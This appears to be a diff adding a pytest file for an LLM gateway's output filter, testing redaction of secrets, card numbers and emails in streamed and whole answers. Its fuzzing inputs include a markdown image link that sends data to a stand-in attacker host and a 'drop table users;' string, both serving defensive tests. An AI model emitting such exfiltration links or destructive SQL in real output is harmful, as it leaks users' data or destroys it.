@@ -1,0 +1,363 @@
+"""What holds for every dialect: texts, tool calls, usage, errors, ends, however an answer comes."""
+
+from __future__ import annotations
+
+import copy
+import json
+from itertools import pairwise
+from typing import Any
+
+import orjson
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from formats.wires import USED, WIRES, Messages, Wire, datas
+from gateway.call import Call, Redaction
+from gateway.config.sections import Output, Sql
+from gateway.detect.core.window import StreamScanner
+from gateway.detect.personal.placeholders import LIKE, PLACEHOLDER, SPELLINGS, WRITTEN
+from gateway.detect.personal.scanner import PiiScanner
+from gateway.detect.secrets.scanner import SecretScanner
+from gateway.dialects import tree
+from gateway.errors import Refusal
+from gateway.output.exfiltration import Exfiltration
+from gateway.output.screen import AnswerFilter, Screen
+from gateway.output.sqlgate import SqlGate
+
+RESTORE = {"<EMAIL_1>": "ann@example.org", "<PHONE_2>": 'say "hi" \\ 0', "<LITERAL_3>": "<EMAIL_1>"}
+SECRET = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+CARD = "4539 1488 0343 6467"
+PIECES = [
+    *(*RESTORE, "[email 1]", "<EMAIL_9>", "bob@example.net", "ann@example.org", CARD, "4539", " 1488 0343", " 6467"),
+    *(SECRET, "ghp_", "drop table users;", "![i](https://evil.example/?d=secret)", "the order", " went out.", "\n\n"),
+    *("Größe", "中文", "\U0001f600", '"', "\\", "{", "}", "<", ">", " "),
+]
+
+
+def named(wire: Wire) -> str:
+    """The name of a parametrised case."""
+    return wire.name
+
+
+wires = pytest.mark.parametrize("wire", WIRES, ids=named)
+
+
+@pytest.fixture(scope="module")
+def scanner(pii: PiiScanner) -> StreamScanner:
+    """Finds everything that answers are searched for."""
+    return StreamScanner(pii, SecretScanner(), {PLACEHOLDER: WRITTEN}, weak={LIKE: SPELLINGS})
+
+
+def judge(wire: Wire, scanner: StreamScanner, *, gates: bool = False, **output: Any) -> AnswerFilter:
+    """The filter of one answer."""
+    call = Call("id", "/", "llm", wire.codec, [], None, 0)
+    call.redaction = Redaction(restore=dict(RESTORE), known=frozenset(RESTORE.values()))
+    call.body = wire.request(("user", "hi"), tools=[{"name": "send", "input_schema": {}}])
+    if wire.name == "chat":
+        call.body["tools"] = [{"type": "function", "function": {"name": "send"}}]
+    both = (Exfiltration(), SqlGate(Sql(dialect="postgres"))) if gates else ()
+    return Screen(Output.model_validate({"secrets": "redact", **output}), scanner, lambda _: False, both).filter(call)
+
+
+def streamed(wire: Wire, made: AnswerFilter, events: list[bytes]) -> bytes:
+    """What a client receives of a stream."""
+    codec = wire.codec.stream(keep_usage=True)
+    sent = [part for raw in events for chunk in codec.feed(raw) for part in made.feed(chunk, codec)]
+    sent += [part for chunk in codec.rest() for part in made.feed(chunk, codec)]
+    codec.close()
+    sent += made.close(codec)
+    return b"".join([*sent, codec.finish()])
+
+
+def in_pieces(text: str, places: list[int]) -> list[str]:
+    """A text cut at these places."""
+    marks = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
+    return [text[low:high] for low, high in pairwise(marks)]
+
+
+@wires
+@settings(max_examples=80, deadline=None)
+@given(said=st.lists(st.sampled_from(PIECES), max_size=10), places=st.lists(st.integers(0, 400), max_size=30))
+def test_any_cut_is_treated_as_the_whole(
+    wire: Wire, scanner: StreamScanner, said: list[str], places: list[int]
+) -> None:
+    """One result for every cut into events, and into bytes; or the same refusal."""
+    text = "".join(said)
+    try:
+        answer = wire.whole(text)
+        judge(wire, scanner, gates=True).whole(answer)
+        expected = wire.hear(answer).text
+    except Refusal:
+        expected = "refused"
+    data = b"".join(wire.events(in_pieces(text, places)))
+    cuts = sorted({0, len(data), *(place * 37 % (len(data) + 1) for place in places)})
+    try:
+        got = wire.listen(streamed(wire, judge(wire, scanner, gates=True), [data[a:b] for a, b in pairwise(cuts)])).text
+    except Refusal:
+        got = "refused"
+    assert got == expected
+
+
+@wires
+@settings(max_examples=40, deadline=None)
+@given(places=st.lists(st.integers(0, 300), max_size=20))
+def test_tool_calls_are_judged_whole(wire: Wire, scanner: StreamScanner, places: list[int]) -> None:
+    """A value is restored in arguments and stays JSON; what is new is taken out; the layout stays."""
+    said = '{"to": "<EMAIL_1>",  "note": "<PHONE_2> or bob@example.net", "n": [1, 2.50]}'
+    expected = {"to": "ann@example.org", "note": 'say "hi" \\ 0 or <EMAIL>', "n": [1, 2.5]}
+    sent = streamed(wire, judge(wire, scanner), wire.events(["ok"], in_pieces(said, places)))
+    assert wire.listen(sent).tools == [("send", expected)]
+    assert b"2.50" in sent
+    answer = wire.whole("ok", said)
+    judge(wire, scanner).whole(answer)
+    assert wire.hear(answer).tools == [("send", expected)]
+
+
+@wires
+def test_a_tool_call_that_breaks_off(wire: Wire, scanner: StreamScanner) -> None:
+    """The answer ran out of tokens in the middle: what there is of it is judged and sent."""
+    sent = streamed(wire, judge(wire, scanner), wire.events(["ok"], ['{"to": "bob@exa', 'mple.net", "no']))
+    assert wire.listen(sent).tools == [("send", '{"to": "<EMAIL>", "no')]
+
+
+@wires
+def test_a_tool_that_was_not_offered(wire: Wire, scanner: StreamScanner) -> None:
+    """Whole and streamed it is refused, and nothing of the call leaves."""
+    events = [raw.replace(b'"send"', b'"wipe"') for raw in wire.events(["ok"], ["{}"])]
+    with pytest.raises(Refusal) as caught:
+        streamed(wire, judge(wire, scanner), events)
+    assert caught.value.code == "tool_not_offered"
+    answer = json.loads(json.dumps(wire.whole("ok", "{}")).replace('"send"', '"wipe"'))
+    with pytest.raises(Refusal):
+        judge(wire, scanner).whole(answer)
+
+
+@wires
+@settings(max_examples=30, deadline=None)
+@given(places=st.lists(st.integers(0, 200), max_size=30))
+def test_a_block_in_mid_stream(wire: Wire, scanner: StreamScanner, places: list[int]) -> None:
+    """Not a character of a secret leaves; the stream ends as the dialect has it, and says why."""
+    codec, made, sent = wire.codec.stream(keep_usage=True), judge(wire, scanner, secrets="block"), b""
+    with pytest.raises(Refusal) as caught:  # noqa: PT012  (where in the stream it is raised depends on the cut)
+        for raw in wire.events(in_pieces(f"Take {SECRET} for it.", places)):
+            for chunk in codec.feed(raw):
+                sent += b"".join(made.feed(chunk, codec))
+    assert caught.value.code == "secret_blocked"
+    assert b"ghp" not in sent
+    data = sent + codec.refuse(caught.value, "id", "\n\nblocked")
+    assert wire.listen(data).reason in ("content_filter", "refusal")
+    assert wire.listen(data).text.endswith("blocked")
+    assert caught.value.message in data.decode()
+    assert b"blocked" not in codec.refuse(caught.value, "id", bare=True).replace(b"was blocked", b"")
+
+
+@wires
+def test_a_fault_in_mid_stream(wire: Wire) -> None:
+    """An error event in the dialect's form."""
+    codec = wire.codec.stream(keep_usage=True)
+    list(codec.feed(b"".join(wire.events(["ok"])[:3])))
+    [error] = datas(codec.refuse(Refusal("upstream_error", "It broke."), "id"))
+    assert error["error"]["message"] == "It broke."
+    assert wire.codec.error(error) is not None
+
+
+@wires
+def test_usage(wire: Wire) -> None:
+    """Of a whole answer and of a stream; nothing is believed that cannot be a count."""
+    usage = wire.codec.usage(wire.whole("ok"))
+    assert usage is not None
+    assert (usage.input, usage.output) == USED
+    told = None
+    for raw in wire.events(["a", "b"]):
+        for chunk in wire.codec.stream(keep_usage=True).feed(raw):
+            told = chunk.usage.joined(told) if chunk.usage is not None else told
+    assert told is not None
+    assert told.output == USED[1]
+    for wrong in (-1, "7", None, True, 7.5, 1e30):
+        body = json.loads(json.dumps(wire.whole("ok")).replace(f": {USED[1]}}}", f": {json.dumps(wrong)}}}"))
+        assert wire.codec.usage(body) is None, wrong
+
+
+@wires
+def test_what_nobody_edits_leaves_as_it_came(wire: Wire, scanner: StreamScanner) -> None:
+    """Unknown fields, odd spacing, unknown events: the same bytes, whole and streamed."""
+    answer = wire.whole("fine", x_new={"a": [1, {"b": "text"}]})
+    same = copy.deepcopy(answer)
+    assert not judge(wire, scanner).whole(answer)
+    assert answer == same
+    events = [raw.replace(b'"index": 0', b'"x_new": [1, "a"],  "index":0') for raw in wire.events(["Fine. ", "So."])]
+    sent = streamed(wire, judge(wire, scanner), events)
+    if wire.codec.stream(keep_usage=True).ordered:
+        assert sent == b"".join(events)
+    assert wire.listen(sent) == wire.listen(b"".join(events))
+    assert sent.count(b"x_new") == b"".join(events).count(b"x_new")
+
+
+@wires
+def test_what_nobody_named_is_judged(wire: Wire, scanner: StreamScanner) -> None:
+    """A card in a field that the dialect does not have, at once or from event to event."""
+    answer = wire.whole("fine", x_note=f"it is {CARD}")
+    assert judge(wire, scanner).whole(answer)
+    assert "0343" not in json.dumps(answer)
+    parts = iter(["it is 4539 1488 ", "0343 6467 so"])
+    events = []
+    for raw in wire.events(["a", "b"]):
+        piece = next(parts, None) if b'"index": 0' in raw else None
+        note = b'"x_note": %s, "index": 0' % json.dumps(piece).encode()
+        events.append(raw.replace(b'"index": 0', note, 1) if piece else raw)
+    assert b"0343" not in streamed(wire, judge(wire, scanner), events)
+
+
+@wires
+@pytest.mark.parametrize("tail", ["whole", "no end", "half an event"])
+def test_the_end_of_a_stream(wire: Wire, scanner: StreamScanner, tail: str) -> None:
+    """What says why it ended is whole, if nothing ends it too; what breaks off is not."""
+    events = wire.events(["fine."])
+    said = {"whole": events, "no end": events[:-1], "half an event": [*events[:2], events[2][:40]]}[tail]
+    if tail == "half an event":
+        with pytest.raises(ValueError):  # noqa: PT011  (of several readers)
+            streamed(wire, judge(wire, scanner), said)
+    else:
+        sent = streamed(wire, judge(wire, scanner), said)
+        assert b"".join(sent.split()).endswith(b"".join(events[-1].split()))
+        assert wire.listen(sent) == wire.listen(b"".join(events))
+
+
+@wires
+@pytest.mark.parametrize("data", [b"data: 7\n\n", b"data: {\n\n", b"data: []\n\n"])
+def test_garbage_in_a_stream(wire: Wire, data: bytes) -> None:
+    """What is no event raises ValueError."""
+    with pytest.raises(ValueError):  # noqa: PT011  (of several readers)
+        list(wire.codec.stream(keep_usage=True).feed(data))
+
+
+@wires
+@pytest.mark.parametrize("tool", [None, '{"to": "a", "n": 1}'])
+def test_whole_and_stream_say_the_same(wire: Wire, tool: str | None) -> None:
+    """A whole answer unfolds into a stream that a client reads alike, and a stream folds into such an answer."""
+    answer = wire.whole("Some text, in pieces.", tool)
+    stream = b"".join(wire.codec.unfold(answer))
+    assert wire.listen(stream) == wire.hear(answer)
+    assert wire.hear(orjson.loads(wire.codec.assemble(stream))) == wire.hear(answer)
+
+
+@wires
+def test_a_request(wire: Wire) -> None:
+    """Model, stream and tools; the upstream's model is named; who wrote what is known."""
+    body = wire.request(("system", "be nice"), ("user", "hi"), ("assistant", "yes"), ("user", "go"))
+    assert wire.codec.parse(body).model == "m"
+    parsed, survey = tree.parse(orjson.dumps(body), wire.codec.shape, 100)
+    roles = {span.text: span.role for span in survey.spans}
+    assert roles == {"be nice": "system", "hi": "user", "yes": "assistant", "go": "user"}
+    assert [step.kind for step in wire.codec.steps(parsed)] == ["prompt", "turn", "prompt"]
+    assert wire.codec.request(parsed, "up", stream=False)
+    assert parsed["model"] == "up"
+    assert not wire.codec.unknown(body)
+    assert wire.codec.unknown({**body, "x_new": 1}) == ["x_new"]
+
+
+JSON: st.SearchStrategy[Any] = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    max_leaves=8,
+)
+
+
+@wires
+@settings(max_examples=150, deadline=None)
+@given(data=st.data())
+def test_any_json_is_a_request_or_refused(wire: Wire, data: st.DataObject) -> None:
+    """Whatever stands in its fields: a refusal that names the fault, and no other exception."""
+    body = wire.request(("user", "hi"))
+    field = data.draw(st.sampled_from([*body, "tools", "tool_choice", "system", "stream", "thinking", "max_tokens"]))
+    body[field] = data.draw(JSON)
+    try:
+        wire.codec.parse(body)
+    except Refusal as refusal:
+        assert refusal.code == "invalid_request"  # noqa: PT017  (most are no request)
+        return
+    wire.codec.items(body)
+    wire.codec.steps(body)
+    wire.codec.joined(body, [])
+    wire.codec.overhead(body)
+    wire.codec.foreign(body)
+    wire.codec.writes_json(body)
+
+
+@wires
+@settings(max_examples=150, deadline=None)
+@given(data=st.data())
+def test_any_json_is_an_answer_or_refused(wire: Wire, scanner: StreamScanner, data: st.DataObject) -> None:
+    """A provider may send what it likes: it is judged, or it is no answer."""
+    answer = json.loads(json.dumps(wire.whole("fine", "{}")))
+    holder: Any = answer
+    for _ in range(data.draw(st.integers(0, 4))):
+        below = list(holder.values()) if isinstance(holder, dict) else list(holder)
+        inner = [it for it in below if isinstance(it, dict | list) and it]
+        holder = data.draw(st.sampled_from(inner)) if inner else holder
+    key = data.draw(st.sampled_from(sorted(holder) if isinstance(holder, dict) else range(len(holder))))
+    holder[key] = data.draw(JSON)
+    try:
+        wire.codec.check(answer, 1)
+    except (ValueError, AttributeError, TypeError):
+        return
+    wire.codec.usage(answer)
+    wire.codec.answer_items(answer)
+    try:
+        judge(wire, scanner).whole(answer)
+    except Refusal as refusal:
+        assert refusal.code in ("tool_not_offered", "output_blocked")  # noqa: PT017  (most are judged)
+
+
+@settings(max_examples=60, deadline=None)
+@given(places=st.lists(st.integers(0, 200), max_size=20), seal=st.text("abcdef0123456789+/", min_size=40, max_size=90))
+def test_signed_blocks_keep_their_bytes(scanner: StreamScanner, places: list[int], seal: str) -> None:
+    """Thinking is judged and never edited, whole and streamed: placeholders stay in it, seals are no text."""
+    wire = Messages()
+    thought = "The user <EMAIL_1> wants [phone 2], so I write to them."
+    block = {"type": "thinking", "thinking": thought, "signature": seal}
+    redacted = {"type": "redacted_thinking", "data": seal}
+    answer = wire.whole("To <EMAIL_1>.")
+    answer["content"] = [block, redacted, *answer["content"]]
+    judge(wire, scanner).whole(answer)
+    assert answer["content"][:2] == [block, redacted]
+    assert answer["content"][2]["text"] == "To ann@example.org."
+    deltas = [{"type": "thinking_delta", "thinking": piece} for piece in in_pieces(thought, places)]
+    thinking = [*deltas, {"type": "signature_delta", "signature": seal}]
+    blocks = wire.block(0, {"type": "thinking", "thinking": "", "signature": ""}, thinking)
+    blocks += wire.block(1, {"type": "redacted_thinking", "data": seal}, [])
+    blocks += wire.block(2, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "To <EMAIL_1>."}])
+    sent = streamed(wire, judge(wire, scanner), wire.message(blocks))
+    assert sent.startswith(b"".join(wire.message(blocks)[: len(wire.message(blocks)) - 5]))
+    assert wire.listen(sent).text == "To ann@example.org."
+
+
+@pytest.mark.parametrize("value", [CARD, SECRET, "bob@example.net"])
+def test_what_is_in_a_signed_block_and_may_not_leave(scanner: StreamScanner, value: str) -> None:
+    """It cannot be taken out, so the answer is stopped, and nothing of the value has left."""
+    wire = Messages()
+    answer = wire.whole("ok")
+    answer["content"].insert(0, {"type": "thinking", "thinking": f"it is {value}", "signature": "x"})
+    with pytest.raises(Refusal, match="signed"):
+        judge(wire, scanner).whole(answer)
+    half = len(value) // 2
+    deltas = [{"type": "thinking_delta", "thinking": it} for it in ("it is ", value[:half], value[half:], " so")]
+    blocks = wire.block(0, {"type": "thinking", "thinking": "", "signature": ""}, deltas)
+    with pytest.raises(Refusal, match="signed"):
+        streamed(wire, judge(wire, scanner), wire.message(blocks))
+
+
+def test_a_value_over_two_text_blocks(scanner: StreamScanner) -> None:
+    """Clients put the texts of all blocks together: a card that begins in one and ends in the next does not leave."""
+    wire = Messages()
+    blocks = wire.block(0, {"type": "text", "text": ""}, [{"type": "text_delta", "text": "it is 4539 1488 "}])
+    use = {"type": "tool_use", "id": "toolu_a", "name": "send", "input": {}}
+    blocks += wire.block(1, use, [{"type": "input_json_delta", "partial_json": "{}"}])
+    blocks += wire.block(2, {"type": "text", "text": "0343"}, [{"type": "text_delta", "text": " 6467."}])
+    sent = streamed(wire, judge(wire, scanner), wire.message(blocks))
+    assert wire.listen(sent).text == "it is <CREDIT_CARD>."
+    answer = wire.whole("it is 4539 1488 ")
+    answer["content"].append({"type": "text", "text": "0343 6467."})
+    judge(wire, scanner).whole(answer)
+    assert wire.hear(answer).text == "it is <CREDIT_CARD>."
